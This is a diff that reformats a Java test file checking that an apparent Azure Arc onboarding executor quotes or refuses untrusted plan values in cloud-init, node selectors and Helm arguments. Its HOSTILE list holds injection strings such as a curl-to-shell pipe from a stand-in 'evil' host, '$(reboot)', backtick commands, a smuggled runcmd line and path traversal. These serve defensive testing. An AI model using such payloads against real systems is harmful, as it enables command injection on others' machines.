@@ -1,5 +1,7 @@
 package dev.arcfleet.executor.route;
 
+import static org.assertj.core.api.Assertions.assertThat;
+
 import dev.arcfleet.contracts.Capability;
 import dev.arcfleet.contracts.OnboardingPlan;
 import dev.arcfleet.contracts.Route;
@@ -7,16 +9,13 @@ import dev.arcfleet.contracts.Target;
 import dev.arcfleet.contracts.TargetKind;
 import dev.arcfleet.executor.route.arck8s.ArcK8sSteps;
 import dev.arcfleet.executor.route.companionvm.CompanionVmSteps;
-import org.junit.jupiter.api.Test;
-
 import java.time.Duration;
 import java.time.Instant;
 import java.util.ArrayList;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
-
-import static org.assertj.core.api.Assertions.assertThat;
+import org.junit.jupiter.api.Test;
 
 /**
  * What a plan says reaches user data, command lines, Helm values, labels and tags only quoted for that place, or not
@@ -25,8 +24,17 @@ import static org.assertj.core.api.Assertions.assertThat;
  */
 class RouteQuotingTest {
     static final AzureTarget AZURE = new AzureTarget("sub-1", "rg-1", "westeurope");
-    static final List<String> HOSTILE = List.of("x;curl evil|sh", "$(reboot)", "`id`", "a\nruncmd: [sh]", "'\"",
-            "${onboardingClientSecret}", "k3s,global.resourceName=evil", "{a,b}", "a\\,b", "../../etc");
+    static final List<String> HOSTILE = List.of(
+            "x;curl evil|sh",
+            "$(reboot)",
+            "`id`",
+            "a\nruncmd: [sh]",
+            "'\"",
+            "${onboardingClientSecret}",
+            "k3s,global.resourceName=evil",
+            "{a,b}",
+            "a\\,b",
+            "../../etc");
 
     @Test
     void theCloudInitUserDataIsConstantWhateverThePlanSays() {
@@ -49,15 +57,21 @@ class RouteQuotingTest {
     void aHostNodeThatIsNoLabelValueIsRefusedNotPutInANodeSelector() {
         CompanionVmSteps route = new CompanionVmSteps("img", 1, 512, Duration.ofSeconds(1));
         for (String value : List.of("x;curl evil|sh", "a".repeat(64), "-worker", "worker-", "a b", "$(reboot)")) {
-            List<StepSpec> steps = route.steps(vmPlan("lyon/w1", Map.of("clusterId", "lyon", "hostNode", value)), AZURE);
+            List<StepSpec> steps =
+                    route.steps(vmPlan("lyon/w1", Map.of("clusterId", "lyon", "hostNode", value)), AZURE);
             assertThat(steps.get(0).refusal()).as(value).contains("hostNode");
             for (StepSpec step : steps) {
-                step.kube().forEach(o -> assertThat(o.manifest().toString()).as(value).doesNotContain(value));
+                step.kube()
+                        .forEach(o ->
+                                assertThat(o.manifest().toString()).as(value).doesNotContain(value));
             }
         }
-        List<StepSpec> ok = route.steps(vmPlan("lyon/w1", Map.of("clusterId", "lyon", "hostNode", "worker-1.plant")), AZURE);
+        List<StepSpec> ok =
+                route.steps(vmPlan("lyon/w1", Map.of("clusterId", "lyon", "hostNode", "worker-1.plant")), AZURE);
         assertThat(ok.get(0).refusal()).isNull();
-        assertThat(ok).flatExtracting(StepSpec::kube).extracting(o -> o.manifest().toString())
+        assertThat(ok)
+                .flatExtracting(StepSpec::kube)
+                .extracting(o -> o.manifest().toString())
                 .anyMatch(m -> m.contains("kubernetes.io/hostname=worker-1.plant"));
     }
 
@@ -80,9 +94,20 @@ class RouteQuotingTest {
     @Test
     void helmValuesFromThePlanAreOneEscapedStringEach() {
         for (String value : HOSTILE) {
-            OnboardingPlan plan = new OnboardingPlan("p1", "c1", Instant.EPOCH, "plan-1", "r1", Route.ARC_K8S,
-                    new Target(TargetKind.CLUSTER, "ghent"), List.of("ghent/n1"), List.of(Capability.GITOPS), List.of(), null,
-                    "v1", Map.of("distribution", value, "infrastructure", value));
+            OnboardingPlan plan = new OnboardingPlan(
+                    "p1",
+                    "c1",
+                    Instant.EPOCH,
+                    "plan-1",
+                    "r1",
+                    Route.ARC_K8S,
+                    new Target(TargetKind.CLUSTER, "ghent"),
+                    List.of("ghent/n1"),
+                    List.of(Capability.GITOPS),
+                    List.of(),
+                    null,
+                    "v1",
+                    Map.of("distribution", value, "infrastructure", value));
             List<StepSpec> steps = new ArcK8sSteps(RouteContractTest.AGENTS, null).steps(plan, AZURE);
             List<?> args = installArgs(steps);
             for (int i = 0; i < args.size() - 1; i++) {
@@ -103,11 +128,15 @@ class RouteQuotingTest {
 
     @SuppressWarnings("unchecked")
     private static List<?> installArgs(List<StepSpec> steps) {
-        StepSpec install = steps.stream().filter(s -> s.name().equals("install-arc-agents")).findFirst().orElseThrow();
+        StepSpec install = steps.stream()
+                .filter(s -> s.name().equals("install-arc-agents"))
+                .findFirst()
+                .orElseThrow();
         Map<String, Object> job = install.kube().get(2).manifest();
-        Map<String, Object> spec = (Map<String, Object>) ((Map<String, Object>) ((Map<String, Object>) job.get("spec"))
-                .get("template")).get("spec");
-        return (List<?>) ((List<Map<String, Object>>) spec.get("containers")).get(0).get("args");
+        Map<String, Object> spec = (Map<String, Object>)
+                ((Map<String, Object>) ((Map<String, Object>) job.get("spec")).get("template")).get("spec");
+        return (List<?>)
+                ((List<Map<String, Object>>) spec.get("containers")).get(0).get("args");
     }
 
     /** How Helm's strvals reads one --set argument: ',' separates, '\' escapes the next character, a '{' opens a list. */
@@ -138,8 +167,19 @@ class RouteQuotingTest {
     }
 
     private static OnboardingPlan vmPlan(String nodeId, Map<String, String> params) {
-        return new OnboardingPlan("p1", "c1", Instant.EPOCH, "plan-1", "r1", Route.COMPANION_VM,
-                new Target(TargetKind.NODE, nodeId), List.of(nodeId), List.of(Capability.EXTENSIONS), List.of(), null, "v1",
+        return new OnboardingPlan(
+                "p1",
+                "c1",
+                Instant.EPOCH,
+                "plan-1",
+                "r1",
+                Route.COMPANION_VM,
+                new Target(TargetKind.NODE, nodeId),
+                List.of(nodeId),
+                List.of(Capability.EXTENSIONS),
+                List.of(),
+                null,
+                "v1",
                 params);
     }
 }
